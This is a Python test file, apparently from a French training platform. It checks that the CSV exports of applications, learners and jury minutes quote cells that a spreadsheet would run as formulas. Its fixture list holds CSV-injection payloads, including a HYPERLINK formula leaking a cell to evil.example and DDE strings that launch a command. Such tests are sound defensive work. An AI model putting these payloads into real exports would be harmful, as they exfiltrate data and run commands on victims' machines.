"""Every CSV export neutralises cells a spreadsheet would run as formulas (OWASP CSV injection).

Each export route has a test that writes hostile values where users can type them, downloads the file and
reads it back; a guard lists the CSV routes of the app, so a new export without such a test fails here.
"""

import csv
import io

import pytest

from beta_training.accounts.models import Role
from beta_training.core.streaming import CsvStream, neutralise
from tests.conftest import login
from tests.factories import make_application, make_cohort, make_enrolment, make_mooc, make_user

# One value per character that starts a formula: = + - @ tab CR.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
    "+33 6 00 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _cells(rows) -> list[str]:
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(value):
    [row] = list(csv.reader(io.StringIO(CsvStream().line(["sûr", value, 12, -3]), newline=""), delimiter=";"))
    assert row == ["sûr", "'" + value, "12", "-3"]  # numbers are not text: left as they are


@pytest.mark.parametrize("value", ["Pôle emploi", "", "a=b", "1-2", " =espace devant", None, 4.5])
def test_ordinary_values_are_written_as_they_are(value):
    assert neutralise(value) == value


def test_applications_export_neutralises_every_answer(client):
    trainer = make_user(roles=[Role.TRAINER])
    cohort = make_cohort()
    for value in HOSTILE:
        make_application(cohort, state="submitted", first_name=value, last_name=value, administration=value,
                         job_title=value, problem=value, solution=value, first_users=value, motivation=value, needs=value,
                         product_name=value)
    login(client, trainer)
    cells = _cells(_rows(client.get(f"/alpha/gestion/{cohort.id}/candidatures.csv")))
    hostile_cells = [cell for cell in cells if cell.lstrip("'") in HOSTILE]
    assert len(hostile_cells) == len(HOSTILE) * 10
    assert all(cell.startswith("'") for cell in hostile_cells)
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))]


def test_learners_export_neutralises_names_and_administrations(client):
    _course, run = make_mooc(sequences=(1,), kinds=("text",))
    for value in HOSTILE:
        make_enrolment(run, make_user(first_name=value, last_name=value, administration=value))
    login(client, make_user(roles=[Role.COURSE_LEAD]))
    cells = _cells(_rows(client.get(f"/mooc/gestion/sessions/{run.id}/apprenants.csv")))
    hostile_cells = [cell for cell in cells if cell.lstrip("'") in HOSTILE]
    assert len(hostile_cells) == len(HOSTILE) * 3
    assert all(cell.startswith("'") for cell in hostile_cells)
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))]


def test_jury_minutes_neutralise_titles_names_comments_and_reasons(client):
    from beta_training.calls.models import CallJuror, JuryScore
    from beta_training.extensions import db
    from tests.factories import make_call, make_dossier

    call = make_call()
    for value in HOSTILE:
        juror = make_user(first_name=value, last_name=value)
        db.session.add(CallJuror(call_id=call.id, email=juror.email, user_id=juror.id))
        dossier = make_dossier(call, make_user(first_name=value, last_name=value), state="laureate", title=value,
                               decision_reason=value)
        db.session.add(JuryScore(dossier_id=dossier.id, juror_id=juror.id, average=4.0,
                                 scores=[{"criterion": "Ampleur du problème", "score": 4, "comment": value}]))
    db.session.commit()
    login(client, make_user(roles=[Role.TRAINER]))
    cells = _cells(_rows(client.get(f"/appels/{call.id}/jury/proces-verbal.csv")))
    hostile_cells = [cell for cell in cells if cell.lstrip("'") in HOSTILE]
    assert hostile_cells and all(cell.startswith("'") for cell in hostile_cells)
    for value in HOSTILE:  # each hostile title, reason and comment is there, quoted
        assert sum(cell.lstrip("'") == value for cell in hostile_cells) >= 3, value
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))]


TESTED_EXPORTS = {"cohorts.export_applications", "courses.export_learners", "calls.minutes_csv"}


def test_every_csv_export_is_tested_above(app):
    csv_endpoints = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    assert csv_endpoints == TESTED_EXPORTS
